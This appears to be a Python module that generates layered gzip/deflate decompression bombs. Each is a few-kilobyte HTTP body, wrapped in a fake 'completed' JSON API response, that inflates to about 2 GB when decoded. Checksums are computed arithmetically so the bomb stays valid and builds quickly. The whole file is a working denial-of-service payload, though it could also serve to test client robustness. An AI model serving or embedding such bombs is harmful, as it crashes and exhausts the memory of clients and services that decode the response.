"""Decompression bombs in layers: a few KB on the wire, gigabytes once decoded.

A valid envelope whose padding is ``size`` bytes long, compressed once (to about a
thousandth) and then once more. The first layer is never compressed for real: deflate
restarts at every full flush, so 1 MiB of padding compresses to the same bytes each time
and the stream is that piece repeated; its checksum (CRC-32 for gzip, Adler-32 for zlib)
is combined arithmetically. Building 2 GB's bomb so takes milliseconds, not the seconds
(and gigabytes) of compressing it.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from functools import lru_cache
from typing import Final, Literal

Coding = Literal["gzip", "deflate"]

#: What each layer of the bomb holds before compression: the second is the padding.
BOMB_BYTES: Final = 2 * 1024**3
_BLOCK: Final = 1024 * 1024
_HEAD: Final = b'{"statusCode":200,"message":"","data":{"status":"completed","padding":"'
_TAIL: Final = b'"}}'
_CRC_POLY: Final = 0xEDB88320
_ADLER_MOD: Final = 65521


@lru_cache(maxsize=2)
def layered_bomb(coding: Coding, size: int = BOMB_BYTES) -> bytes:
    """The body for ``Content-Encoding: <coding>, <coding>`` (built once per process).

    ``size`` is rounded down to whole MiB of padding. With the default, gzip's bomb is
    about 5 KB, 2 MB after one layer and 2 GB after two.
    """
    blocks = max(1, size // _BLOCK)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = compressor.compress(_HEAD) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(b"x" * _BLOCK) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(_TAIL) + compressor.flush(zlib.Z_FINISH)
    deflated = head + piece * blocks + tail
    length = len(_HEAD) + blocks * _BLOCK + len(_TAIL)
    if coding == "gzip":
        crc = _crc32_combine(
            zlib.crc32(_HEAD), _repeated(blocks, zlib.crc32, _crc32_combine, 0), blocks * _BLOCK
        )
        crc = zlib.crc32(_TAIL, crc)
        # Magic, deflate, no flags, no time, maximum compression, unknown OS.
        header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        inner = header + deflated + struct.pack("<II", crc, length & 0xFFFFFFFF)
        return zlib.compress(inner, 9, wbits=16 + zlib.MAX_WBITS)
    adler = _adler32_combine(
        zlib.adler32(_HEAD), _repeated(blocks, zlib.adler32, _adler32_combine, 1), blocks * _BLOCK
    )
    adler = zlib.adler32(_TAIL, adler)
    inner = b"\x78\xda" + deflated + struct.pack(">I", adler)
    return zlib.compress(inner, 9)


def _repeated(
    times: int,
    checksum: Callable[[bytes], int],
    combine: Callable[[int, int, int], int],
    empty: int,
) -> int:
    """The checksum of ``times`` blocks of padding, by doubling (log2(times) combinations);
    ``empty`` is the checksum of nothing."""
    total, total_len = empty, 0
    power, power_len = checksum(b"x" * _BLOCK), _BLOCK
    while times:
        if times & 1:
            total, total_len = combine(total, power, power_len), total_len + power_len
        power, power_len = combine(power, power, power_len), power_len * 2
        times >>= 1
    return total


def _crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A + B from those of A and B (zlib's crc32_combine: GF(2) matrices)."""
    return _shift(crc1, len2) ^ crc2


def _shift(crc: int, length: int) -> int:
    """``crc`` advanced over ``length`` zero bytes."""
    odd = [_CRC_POLY] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _square(odd)  # two zero bits
    odd = _square(even)  # four zero bits
    while length:
        even = _square(odd)  # the first square: one zero byte
        if length & 1:
            crc = _times(even, crc)
        length >>= 1
        if not length:
            break
        odd = _square(even)
        if length & 1:
            crc = _times(odd, crc)
        length >>= 1
    return crc


def _times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _square(matrix: list[int]) -> list[int]:
    return [_times(matrix, column) for column in matrix]


def _adler32_combine(adler1: int, adler2: int, len2: int) -> int:
    """Adler-32 of A + B from those of A and B (zlib's adler32_combine)."""
    rem = len2 % _ADLER_MOD
    sum1 = adler1 & 0xFFFF
    sum2 = rem * sum1 % _ADLER_MOD
    sum1 = (sum1 + (adler2 & 0xFFFF) + _ADLER_MOD - 1) % _ADLER_MOD
    sum2 = (sum2 + (adler1 >> 16) + (adler2 >> 16) + _ADLER_MOD - rem) % _ADLER_MOD
    return sum1 | sum2 << 16
